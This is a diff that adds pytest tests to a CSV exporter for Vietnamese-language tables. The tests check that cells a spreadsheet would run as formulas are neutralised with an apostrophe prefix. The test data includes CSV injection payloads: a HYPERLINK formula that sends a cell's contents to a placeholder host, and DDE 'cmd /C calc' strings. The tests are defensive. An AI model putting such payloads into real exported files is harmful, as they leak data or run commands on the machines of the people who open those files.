@@ -97,3 +97,34 @@ def test_unreadable_csv_is_bad_input(tmp_path: Path, content: bytes) -> None:
     path.write_bytes(content)
     with pytest.raises(InputError):
         read_csv_table(path)
+
+
+# --- CSV injection (OWASP): cells a spreadsheet would run as formulas -----------------------------
+
+DANGEROUS = ("=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+             "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "- Cấp xã")
+NUMBERS = ("-5", "-1.234,5", "+12,5%", "1.058", "-", "—", "")
+
+
+@pytest.mark.parametrize("cell", DANGEROUS)
+def test_a_cell_that_would_be_a_formula_gets_an_apostrophe(cell: str) -> None:
+    table = Table(header=("STT", "Chỉ tiêu", "Giá trị"), rows=(("1", cell, "5"),))
+    rows = list(csv.reader(csv_text(table, TableConfig()).splitlines(keepends=True)))
+    assert rows[1][1] == "'" + cell
+
+
+@pytest.mark.parametrize("cell", NUMBERS)
+def test_numbers_and_nils_stay_as_printed(cell: str) -> None:
+    table = Table(header=("STT", "Chỉ tiêu", "Giá trị"), rows=(("1", "Sở Y tế", cell),))
+    rows = list(csv.reader(csv_text(table, TableConfig()).splitlines()))
+    assert rows[1][2] == cell
+
+
+def test_raw_csv_writes_the_text_as_read_and_check_reads_neutralised_cells_back(tmp_path: Path) -> None:
+    table = Table(header=("STT", "Chỉ tiêu", "Giá trị"), rows=(("1", "=1+1", "-5"), ("", "- Trong đó", "-3")))
+    raw = list(csv.reader(csv_text(table, TableConfig(raw_csv=True)).splitlines()))
+    assert raw[1] == ["1", "=1+1", "-5"] and raw[2] == ["", "- Trong đó", "-3"]
+    path = tmp_path / "t.csv"
+    path.write_text(csv_text(table, TableConfig()), encoding="utf-8")
+    assert "'=1+1" in path.read_text(encoding="utf-8")
+    assert read_csv_table(path).rows == table.rows
